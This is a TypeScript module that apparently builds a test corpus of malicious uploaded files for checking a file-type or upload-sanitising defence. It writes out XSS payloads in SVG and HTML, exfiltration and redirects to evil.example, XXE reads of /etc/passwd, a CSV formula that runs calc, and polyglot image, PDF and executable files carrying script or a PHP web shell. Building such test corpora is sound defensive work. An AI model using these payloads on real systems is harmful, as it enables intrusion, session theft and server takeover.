/** A stranger's file that would like to run, and what its bytes are. */
export interface Payload {
  readonly name: string
  readonly bytes: Buffer
  /** `undefined` where several answers are right. */
  readonly type: string | undefined
}

const SCRIPT = 'fetch("/session");document.cookie;parent.postMessage(document.domain,"*")'
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'

/** What may stand before the root of a document without changing what it is. */
const HEADS = [
  '',
  '\uFEFF',
  ' \n\t',
  '<!-- drawn by hand -->',
  '<!-- <html><script>1</script> -->\n<!-- more -->',
]

const SVG_BODIES = [
  `<script>${SCRIPT}</script>`,
  `<script type="text/ecmascript"><![CDATA[${SCRIPT}]]></script>`,
  '<script href="https://evil.example/a.js"/>',
  '<script xlink:href="data:text/javascript,alert(1)"/>',
  '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><form action="/session"/></body></foreignObject>',
  '<image href="https://evil.example/track.png" width="1" height="1"/>',
  '<image href="x" onerror="alert(1)"/>',
  '<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;alert(1)&quot;/>#x"/>',
  '<a href="javascript:alert(1)"><rect width="99" height="99"/></a>',
  '<animate attributeName="href" values="javascript:alert(1)" begin="0s"/>',
  '<set attributeName="onmouseover" to="alert(1)"/>',
  '<style>@import "https://evil.example/a.css"; *{background:url(https://evil.example/b)}</style>',
  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  '<feImage href="https://evil.example/a.svg"/>',
  '<text onclick="alert(1)">click</text>',
  '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>',
  '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert(1)&lt;/script>"/>',
]
const SVG_ROOTS = [
  (body: string) => `<svg xmlns="http://www.w3.org/2000/svg" ${XLINK}>${body}</svg>`,
  (body: string) => `<svg xmlns="http://www.w3.org/2000/svg" ${XLINK} onload="alert(1)">${body}</svg>`,
  (body: string) => `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">${body}</svg>`,
]

const HTML_BODIES = [
  `<script>${SCRIPT}</script>`,
  '<img src=x onerror=alert(1)>',
  '<iframe src="/files/"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><a href=a>',
  '<form action="https://evil.example" method=post><input name=password></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<script>navigator.serviceWorker.register("/files/a")</script>',
  '<script>top.location="https://evil.example"</script>',
  '<script>open("https://evil.example")</script>',
  '<embed src="javascript:alert(1)">',
]
const HTML_ROOTS = [
  (body: string) => `<!doctype html>${body}`,
  (body: string) => `<html><body onload="alert(1)">${body}</body></html>`,
  (body: string) => `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">\n<HTML>${body}</HTML>`,
]

/** Markup that browsers would only take for a page if they guessed. */
const GUESSED = [
  `<script>${SCRIPT}</script>`,
  '<body onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><a/>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % d SYSTEM "http://127.0.0.1/d"> %d;]><a/>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<rss version="2.0"><channel><title><![CDATA[<script>alert(1)</script>]]></title></channel></rss>',
  '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction xlink:href="javascript:alert(1)"/></math>',
  'alert(document.domain)',
  'export default fetch("/session")',
  'body{background:url("javascript:alert(1)")}',
  'self.addEventListener("fetch", () => {})',
  'CACHE MANIFEST\n/\nFALLBACK:\n/ /files/evil',
  'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\n\n<script>alert(1)</script>',
  '[InternetShortcut]\nURL=https://evil.example',
  '{"a":"</script><script>alert(1)</script>"}',
  'a,b\n=cmd|"/c calc"!A1,2',
  '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd',
]

const MAGIC: readonly (readonly [string, Buffer, string])[] = [
  ['gif', Buffer.from('GIF89a'), 'image/gif'],
  ['png', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'image/png'],
  ['jpeg', Buffer.from('ffd8ffe000104a464946000101', 'hex'), 'image/jpeg'],
  ['webp', Buffer.from('52494646ff00000057454250', 'hex'), 'image/webp'],
  ['pdf', Buffer.from('%PDF-1.7\n'), 'application/pdf'],
  ['ogg', Buffer.from('4f67675300020000000000000000', 'hex'), 'application/ogg'],
  ['wasm', Buffer.from('0061736d01000000', 'hex'), 'application/wasm'],
  ['gzip', Buffer.from('1f8b0800', 'hex'), 'application/gzip'],
  ['executable', Buffer.from('4d5a9000', 'hex'), 'application/x-msdownload'],
  ['flash', Buffer.from('43575309', 'hex'), 'application/x-shockwave-flash'],
]
const TAILS = [
  '/*<script>alert(1)</script>*/=1;alert(1)',
  '<html><script>alert(1)</script></html>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
  '<?php system($_GET[0]) ?>',
]

function products(): Payload[] {
  const svgs = HEADS.flatMap((head) =>
    SVG_ROOTS.flatMap((root) => SVG_BODIES.map((body) => text('svg', head + root(body), 'image/svg+xml'))),
  )
  const pages = HEADS.slice(0, 4).flatMap((head) =>
    HTML_ROOTS.flatMap((root) => HTML_BODIES.map((body) => text('page', head + root(body), 'text/html'))),
  )
  return [...svgs, ...pages]
}

function text(kind: string, content: string, type: string | undefined): Payload {
  return { name: `${kind}: ${content.slice(0, 120)}`, bytes: Buffer.from(content), type }
}

/** Several hundred, no two of the same bytes. */
export function makePayloads(): Payload[] {
  const polyglots = MAGIC.flatMap(([name, head, type]) =>
    TAILS.map((tail) => ({
      name: `${name} that is ${tail}`,
      // Enough bytes that whoever reads on finds some.
      bytes: Buffer.concat([head, Buffer.from(tail), Buffer.alloc(600, 1)]),
      type: name === 'ogg' || name === 'gif' || name === 'executable' ? undefined : type,
    })),
  )
  const wide = HTML_ROOTS.map((root) => ({
    name: `UTF-16 page ${root('')}`,
    bytes: Buffer.from(`\uFEFF${root('<script>alert(1)</script>')}`, 'utf16le'),
    type: undefined,
  }))
  return [...products(), ...GUESSED.map((one) => text('guessed', one, undefined)), ...polyglots, ...wide]
}
